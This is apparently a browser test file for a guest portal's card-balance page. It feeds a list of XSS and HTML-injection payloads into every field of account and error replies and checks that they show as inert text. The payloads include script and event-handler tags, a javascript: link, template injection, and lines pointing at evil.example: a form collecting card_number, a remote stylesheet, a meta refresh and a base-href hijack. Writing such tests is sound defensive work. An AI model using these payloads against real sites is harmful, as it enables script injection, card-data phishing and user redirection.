"""Names full of markup, in every field of a reply, stay text: nothing runs, nothing is fetched, nothing is asked."""

import json
import re
from typing import Final

from playwright.sync_api import expect

from guestportal.sandbox.accounts import QUOTED_NAME, SCRIPT_NAME
from guestportal.sandbox.cards import HUGE, SEED
from tests.browser.conftest import NewGuest
from tests.browser.guest import Guest
from tests.support.sandbox import ACCOUNT_INFORMATION, SandboxProcess

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "'\"--><iframe srcdoc='<script>alert(4)</script>'></iframe>",
    '<a href="javascript:alert(5)">x</a>',
    "</title></textarea><script>alert(6)</script>",
    "{{ 7|add:7 }}{% csrf_token %}",
    "<div hx-get=/help/ hx-trigger=load hx-target=body>",
    "<form action=https://evil.example><input name=card_number>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
)


# What the payloads would leave in the page if one of them became markup.
INJECTED: Final = ", ".join(
    (
        *(f"main {tag}" for tag in ("script", "img", "iframe", "style", "link", "base", "meta")),
        "[onerror], [onload], [srcdoc], [href^='javascript:'], [action^='https:'], [hx-get='/help/']",
    )
)


def reply_full_of(payload: str) -> dict[str, object]:
    """An account in which every text that a guest may see is the payload."""
    wallet = {
        "walletCode": 77,
        "name": payload,
        "description": payload,
        "balance": payload,
        "giftable": False,
    }
    expiration = {"amount": payload, "expirationDate": payload}
    store = {"code": payload, "label": payload}
    return {
        "result": "success",
        "accountStatus": payload,
        "queryCardStatus": payload,
        "cardTemplateCode": 3,
        "cardTemplateLabel": payload,
        "enrollmentStore": store,
        "fields": {
            "enrollDate": payload,
            "favoriteStore": {"code": "x", "label": f"{payload} too"},
            "perks": [payload, {"code": payload, "label": payload}],
            "externalAccounts": [payload],
        },
        "isRegistered": True,
        "pointBalances": [wallet, {**wallet, "walletCode": 78, "expirations": [expiration]}],
        "rewardBalances": [{**wallet, "expirations": [expiration]}],
        "storedValueBalance": wallet,
        "primaryCard": {"printedCardNumber": payload, "maskedCardNumber": payload, "status": payload},
        "additionalCards": [{"printedCardNumber": payload, "maskedCardNumber": payload, "status": payload}],
        "tierCode": 1,
        "tierLabel": payload,
        "username": payload,
    }


def test_shows_payloads_in_every_field_as_text(guest: Guest, sandbox: SandboxProcess) -> None:
    for payload in PAYLOADS:
        sandbox.set_reply(SEED.number, reply_full_of(payload))
        guest.come_with_card(SEED)
        guest.open("/balance/")
        expect(guest.page.get_by_text(payload, exact=True).first).to_be_visible()
        assert guest.page.locator(INJECTED).count() == 0, payload
    assert {request.url for request in guest.requests if request.resource_type == "document"} == {
        f"{guest.origin}/balance/"
    }


def test_shows_payloads_in_a_refusal_as_text(guest: Guest, sandbox: SandboxProcess) -> None:
    guest.come_with_card(SEED)
    for payload in PAYLOADS[:4]:
        guest.open("/balance/")
        reply = {"result": "failure", "errorCode": payload, "errorMessage": payload}
        sandbox.queue_fault(ACCOUNT_INFORMATION, {"kind": "replace", "body": json.dumps(reply)})
        guest.page.get_by_role("button", name=re.compile("Refresh|Try again")).click()

        expect(guest.page.locator(".lead")).to_have_text(payload)


def test_shows_the_sandboxs_own_card_of_markup_as_text(new_guest: NewGuest) -> None:
    guest = new_guest(script=False)
    guest.come_with_card(HUGE)
    guest.open("/balance/")

    for text in (SCRIPT_NAME, QUOTED_NAME):
        expect(guest.page.get_by_text(text, exact=True).first).to_be_visible()
    expect(guest.page.get_by_text("12,345,678,901,234,567,890").first).to_be_visible()
